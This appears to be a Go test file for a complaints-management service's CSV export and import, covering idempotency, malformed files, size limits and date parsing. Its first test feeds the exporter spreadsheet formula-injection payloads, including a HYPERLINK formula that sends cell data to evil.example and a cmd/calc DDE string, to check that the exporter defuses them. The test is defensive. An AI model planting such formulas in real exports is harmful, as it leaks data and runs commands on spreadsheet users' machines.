package complaints

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"reflect"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/cxkit/cxkit"
	"github.com/cxkit/cxkit/remedy"
	"github.com/cxkit/cxkit/store"
)

var wholeYear = [2]time.Time{time.Date(2000, 1, 1, 0, 0, 0, 0, time.UTC), time.Date(2100, 1, 1, 0, 0, 0, 0, time.UTC)}

// Issue 14: no exported cell may start a spreadsheet formula, whatever
// column it is in; and Import gives the text back as it was.
func TestExportDefusesFormulasInEveryColumn(t *testing.T) {
	f := newFixture(t)
	payloads := []string{`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tlead tab", "\rlead return", "'quoted"}
	var ids []string
	for i, p := range payloads {
		n := sampleNew()
		n.Summary, n.Category, n.Concerns = p, p, p
		n.Customer = Customer{Ref: p, Name: p, Contact: p}
		n.DirectedAt = Target{Kind: TargetKindStaff, Name: p}
		c := f.must(f.svc.Log(f.ctx, n))
		in := Input{By: "Maria"}
		f.must(f.svc.Refer(f.ctx, c.ID, Referral{Body: "Ombudsman", BodyKind: BodyKindOmbudsman}, in))
		f.must(f.svc.ReferralOutcome(f.ctx, c.ID, p, in))
		f.must(f.svc.Close(f.ctx, c.ID, p, in))
		ids = append(ids, c.ID)
		_ = i
	}
	var out bytes.Buffer
	if err := f.svc.Export(f.ctx, &out, wholeYear[0], wholeYear[1], ExportOptions{Personal: true}); err != nil {
		t.Fatal(err)
	}
	rows := readAll(t, out.String())
	for i, row := range rows {
		for j, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("row %d column %q starts a formula: %q", i, rows[0][j], cell)
			}
		}
	}
	g := newFixture(t)
	g.clock.Set(f.clock.Now())
	res, err := g.svc.Import(g.ctx, bytes.NewReader(out.Bytes()), ImportOptions{By: "importer"})
	if err != nil {
		t.Fatal(err)
	}
	for i, id := range res.Imported {
		c := f.must(g.svc.Get(g.ctx, id))
		p := payloads[i]
		if id != ids[i] || c.Summary != p || c.Category != p || c.Concerns != p || c.Customer.Name != p || c.Outcome != p || c.DirectedAt.Name != p {
			t.Errorf("payload %q came back as %+v", p, c)
		}
	}
}

// Issue 14: a malformed quote part-way used to stop the import with a nil
// error, the rows before it in and the rows after it silently dropped.
func TestImportMalformedFileImportsNothing(t *testing.T) {
	f := newFixture(t)
	in := "date,complaint,made by,directed at\n" +
		"2026-06-03,first,public,staff\n" +
		"2026-06-04,second,public,staff\n" +
		"2026-06-05,\"broken \"quote\" here,public,staff\n" +
		"2026-06-06,fourth,public,staff\n"
	res, err := f.svc.Import(f.ctx, strings.NewReader(in), ImportOptions{By: "clerk"})
	if err == nil || !errors.Is(err, store.ErrInvalid) {
		t.Fatalf("malformed file: err = %v, want a refusal", err)
	}
	if len(res.Imported) != 0 || countAll(t, f) != 0 || len(res.Errors) != 1 || res.Errors[0].Line != 4 {
		t.Errorf("imported %d (store %d), errors %+v; want nothing imported and line 4 named", len(res.Imported), countAll(t, f), res.Errors)
	}
}

// Issue 14: importing the same file twice used to duplicate every row.
func TestImportIsIdempotent(t *testing.T) {
	f := newFixture(t)
	hand := "Date,Complaint,Complaint made by,Complaint directed at\n" +
		"3 June,Late again,Member of public,Courier (outsourced)\n" +
		"3 June,Late again,Member of public,Courier (outsourced)\n" + // a second, identical complaint that day
		"4 June,Rude,Colleague,Colleague\n"
	opts := ImportOptions{By: "clerk", Year: 2026}
	first, err := f.svc.Import(f.ctx, strings.NewReader(hand), opts)
	if err != nil || len(first.Imported) != 3 {
		t.Fatalf("first import: %v %+v", err, first)
	}
	again, err := f.svc.Import(f.ctx, strings.NewReader(hand), opts)
	if err != nil || len(again.Imported) != 0 || !reflect.DeepEqual(again.Skipped, first.Imported) {
		t.Fatalf("second import: %v imported %v skipped %v; want all %v skipped", err, again.Imported, again.Skipped, first.Imported)
	}
	if n := countAll(t, f); n != 3 {
		t.Errorf("store holds %d complaints after two imports, want 3", n)
	}
	// An export re-imported into the same store adds nothing either.
	var out bytes.Buffer
	if err := f.svc.Export(f.ctx, &out, wholeYear[0], wholeYear[1], ExportOptions{Personal: true}); err != nil {
		t.Fatal(err)
	}
	res, err := f.svc.Import(f.ctx, &out, ImportOptions{By: "clerk"})
	if err != nil || len(res.Imported) != 0 || len(res.Skipped) != 3 || countAll(t, f) != 3 {
		t.Errorf("export re-imported: %v %+v, store %d", err, res, countAll(t, f))
	}
}

// hugeCell yields a header, then a row whose complaint never ends.
type hugeCell struct{ n, sent int }

func (h *hugeCell) Read(p []byte) (int, error) {
	const head = "date,complaint,made by,directed at\n2026-06-03,"
	if h.sent >= h.n {
		return 0, io.EOF
	}
	i := 0
	for ; i < len(p) && h.sent < h.n; i++ {
		if h.sent < len(head) {
			p[i] = head[h.sent]
		} else {
			p[i] = 'a'
		}
		h.sent++
	}
	return i, nil
}

// Issue 14: a 64 MiB cell used to be read whole (about 700 MiB allocated)
// before it was refused.
func TestImportIsBounded(t *testing.T) {
	f := newFixture(t)
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	res, err := f.svc.Import(f.ctx, &hugeCell{n: 64 << 20}, ImportOptions{By: "clerk"})
	runtime.ReadMemStats(&after)
	if err == nil || !errors.Is(err, store.ErrInvalid) || len(res.Imported) != 0 {
		t.Fatalf("64 MiB cell: %v %+v, want a refusal", err, res)
	}
	if got := after.TotalAlloc - before.TotalAlloc; got > 32<<20 {
		t.Errorf("refusing a 64 MiB cell allocated %d MiB", got>>20)
	}
	if !strings.Contains(err.Error(), "too large") && !strings.Contains(err.Error(), "longer than") {
		t.Errorf("error does not say what was too big: %v", err)
	}
}

// Issue 14: the log the seed shows, as a person keeps it: its own headers,
// dates without a year, the complainant and target in words, cells over
// several lines.
func TestImportHandKeptLog(t *testing.T) {
	f := newFixture(t)
	in := "Date,Complaint,Complaint made by,Complaint directed at\n" +
		"3 June,\"Salesperson could\nnot provide sufficient\ninformation\",Member of public (not regular customer),Salesperson\n" +
		"6 June,Goods not delivered on time,Corporate agency,Distribution company (an outsourced service)\n" +
		"8 June,Information required to provide to customer not available in time,Colleague,Colleague\n"
	if _, err := f.svc.Import(f.ctx, strings.NewReader(in), ImportOptions{By: "clerk"}); err == nil || !strings.Contains(err.Error(), "year") {
		t.Errorf("dates without a year and no year given: %v, want an error asking for the year", err)
	}
	syd, _ := time.LoadLocation("Australia/Sydney")
	res, err := f.svc.Import(f.ctx, strings.NewReader(in), ImportOptions{By: "clerk", Year: 2026, Location: syd})
	if err != nil || len(res.Imported) != 3 {
		t.Fatalf("import: %v %+v", err, res)
	}
	want := []struct {
		day    int
		madeBy MadeBy
		target Target
	}{
		{3, MadeByPublic, Target{Kind: TargetKindStaff, Name: "Salesperson"}},
		{6, MadeByCorporate, Target{Kind: TargetKindOutsourced, Name: "Distribution company"}},
		{8, MadeByColleague, Target{Kind: TargetKindStaff, Name: "Colleague"}},
	}
	for i, w := range want {
		c := f.must(f.svc.Get(f.ctx, res.Imported[i]))
		if !c.Received.Equal(time.Date(2026, 6, w.day, 0, 0, 0, 0, syd)) || c.MadeBy != w.madeBy || c.DirectedAt != w.target {
			t.Errorf("row %d: received %s, made by %s, directed at %+v; want 2026-06-%02d in Sydney, %s, %+v", i, c.Received, c.MadeBy, c.DirectedAt, w.day, w.madeBy, w.target)
		}
	}
	if c := f.must(f.svc.Get(f.ctx, res.Imported[0])); !strings.Contains(c.Summary, "sufficient\ninformation") {
		t.Errorf("multi-line cell: %q", c.Summary)
	}
	for _, tt := range []struct {
		s    string
		opts ImportOptions
		want time.Time
	}{
		{"2026-06-03", ImportOptions{}, time.Date(2026, 6, 3, 0, 0, 0, 0, time.UTC)},
		{"3 June 2026", ImportOptions{}, time.Date(2026, 6, 3, 0, 0, 0, 0, time.UTC)},
		{"June 3, 2026", ImportOptions{}, time.Date(2026, 6, 3, 0, 0, 0, 0, time.UTC)},
		{"3/6/2026", ImportOptions{}, time.Date(2026, 6, 3, 0, 0, 0, 0, time.UTC)},
		{"03/06/2026", ImportOptions{MonthFirst: true}, time.Date(2026, 3, 6, 0, 0, 0, 0, time.UTC)},
		{"3 jun", ImportOptions{Year: 2025}, time.Date(2025, 6, 3, 0, 0, 0, 0, time.UTC)},
		{"2026-06-03T10:00:00.5+10:00", ImportOptions{}, time.Date(2026, 6, 3, 0, 0, 0, 500_000_000, time.UTC)},
	} {
		got, err := parseLogDate(tt.s, tt.opts, time.UTC)
		if err != nil || !got.Equal(tt.want) {
			t.Errorf("%q: %s, %v; want %s", tt.s, got, err, tt.want)
		}
	}
}

// everyState builds n complaints spread over every state the workflow
// has, with remedies (approved, pending, rejected), escalations,
// referrals, reopenings and notes in their histories.
func everyState(t testing.TB, f *fixture, n int) []Complaint {
	t.Helper()
	states := Statuses()
	var out []Complaint
	for i := range n {
		f.clock.Set(monday.Add(time.Duration(i) * time.Minute))
		st := states[i%len(states)]
		c := f.to(st)
		in := Input{By: "Jo", Note: fmt.Sprintf("note %d", i)}
		switch {
		case st == StatusClosed && i%4 == 0:
			c = f.must(f.svc.Reopen(f.ctx, c.ID, in))
		case st == StatusAcknowledged && i%4 == 2:
			c = f.must(f.svc.Decide(f.ctx, c.ID, remedy.Decision{Kind: remedy.KindVoucher, Amount: aud(20000), By: remedy.Actor{Name: "Maria", Role: "agent"}, Note: "goodwill"}, 0))
			if i%4 == 0 {
				c = f.must(f.svc.Reject(f.ctx, c.ID, remedy.Actor{Name: "Jo", Role: "team leader"}, "too generous"))
			}
		case st == StatusReferred && i%2 == 0:
			c = f.must(f.svc.ReferralOutcome(f.ctx, c.ID, "upheld in part", in))
		default:
			c = f.must(f.svc.AddNote(f.ctx, c.ID, in))
		}
		out = append(out, c)
	}
	return out
}

// comparable strips what a store assigns on its own: the version and the
// record's created and updated stamps.
func comparable(c Complaint) Complaint {
	c.Meta = store.Meta{ID: c.ID}
	return c
}

// Issue 14's check: 1,000 complaints in every state, with remedies and
// history, exported and imported into an empty store, compare equal.
func TestExportImportRoundTripEveryState(t *testing.T) {
	f := newFixture(t)
	orig := everyState(t, f, 1000)
	var out bytes.Buffer
	if err := f.svc.Export(f.ctx, &out, wholeYear[0], wholeYear[1], ExportOptions{Personal: true}); err != nil {
		t.Fatal(err)
	}
	g := newFixture(t)
	g.clock.Set(f.clock.Now().Add(time.Hour))
	res, err := g.svc.Import(g.ctx, bytes.NewReader(out.Bytes()), ImportOptions{By: "migration"})
	if err != nil || len(res.Imported) != len(orig) {
		t.Fatalf("import: %v, %d imported, errors %+v", err, len(res.Imported), res.Errors)
	}
	seen := map[Status]int{}
	for _, want := range orig {
		got, err := g.svc.Get(g.ctx, want.ID)
		if err != nil {
			t.Fatal(err)
		}
		last := got.History[len(got.History)-1]
		if last.Action != "imported" || last.By != "migration" {
			t.Fatalf("%s: last history line %+v, want the import", want.ID, last)
		}
		got.History = got.History[:len(got.History)-1]
		if !reflect.DeepEqual(comparable(got), comparable(want)) {
			t.Fatalf("%s differs after the round trip:\n got %+v\nwant %+v", want.ID, comparable(got), comparable(want))
		}
		seen[got.Status]++
	}
	for _, st := range Statuses() {
		if seen[st] == 0 {
			t.Errorf("no complaint in state %s", st)
		}
	}
}

// Issue 13: the bulk path takes complaints from another system in any
// state, with their history, all or nothing, idempotently, in batches.
func TestImportMany(t *testing.T) {
	f := newFixture(t)
	src := everyState(t, f, 600) // more than one batch of 500
	g := newFixture(t)
	g.clock.Set(f.clock.Now().Add(time.Hour))

	bad := append([]Complaint(nil), src...)
	bad[300].Status = "lost"
	bad[500].Summary = ""
	res, err := g.svc.ImportMany(g.ctx, bad, "migration")
	var verr *cxkit.ValidationError
	if !errors.As(err, &verr) || len(res.Errors) != 2 || res.Errors[0].Line != 301 || res.Errors[0].Field != "complaint.status" || res.Errors[1].Line != 501 {
		t.Fatalf("bad rows: %v %+v", err, res.Errors)
	}
	if countAll(t, g) != 0 {
		t.Fatalf("a refused bulk import wrote %d complaints", countAll(t, g))
	}

	res, err = g.svc.ImportMany(g.ctx, src, "migration")
	if err != nil || len(res.Imported) != len(src) {
		t.Fatalf("bulk import: %v, %d imported", err, len(res.Imported))
	}
	closed := 0
	for _, want := range src {
		got := f.must(g.svc.Get(g.ctx, want.ID))
		if got.Status != want.Status || len(got.History) != len(want.History)+1 || got.History[len(got.History)-1].Action != "imported" {
			t.Fatalf("%s: %s with %d history lines, want %s with %d+1", want.ID, got.Status, len(got.History), want.Status, len(want.History))
		}
		if got.Status == StatusClosed {
			closed++
		}
	}
	if closed == 0 {
		t.Error("no closed complaint came over")
	}
	again, err := g.svc.ImportMany(g.ctx, src, "migration")
	if err != nil || len(again.Imported) != 0 || len(again.Skipped) != len(src) || countAll(t, g) != int64(len(src)) {
		t.Errorf("rerun: %v imported %d skipped %d, store %d", err, len(again.Imported), len(again.Skipped), countAll(t, g))
	}
}

// FuzzParseLogDate: any cell gives a date or an error naming what is
// wrong, never a panic nor a zero time; a date read with the caller's year
// is in that year.
func FuzzParseLogDate(f *testing.F) {
	for _, s := range []string{"3 June", "2026-06-03", "3/6/2026", "June 3, 2026", "Mon 3 Jun", "31/2", "2026-06-03T10:00:00.5+10:00", "29 Feb", "", "3.6.26"} {
		f.Add(s, false)
	}
	f.Fuzz(func(t *testing.T, s string, monthFirst bool) {
		got, err := parseLogDate(s, ImportOptions{Year: 2026, MonthFirst: monthFirst}, time.UTC)
		if err != nil {
			if err.Error() == "" {
				t.Fatal("empty error")
			}
			return
		}
		if got.IsZero() {
			t.Fatalf("%q: zero time without an error", s)
		}
		if !strings.ContainsAny(s, "0123456789") {
			t.Fatalf("%q: a date without a digit", s)
		}
		if _, e := time.Parse(time.RFC3339Nano, strings.TrimSpace(s)); e != nil && got.Year() != 2026 && strings.Count(s, "2026") == 0 && !hasYear(s) {
			t.Fatalf("%q: read as %s, not in the year given", s, got)
		}
	})
}

// hasYear reports whether s holds a run of four digits: a year of its own.
func hasYear(s string) bool {
	run := 0
	for _, r := range s {
		if r >= '0' && r <= '9' {
			run++
			if run >= 4 {
				return true
			}
		} else {
			run = 0
		}
	}
	return false
}
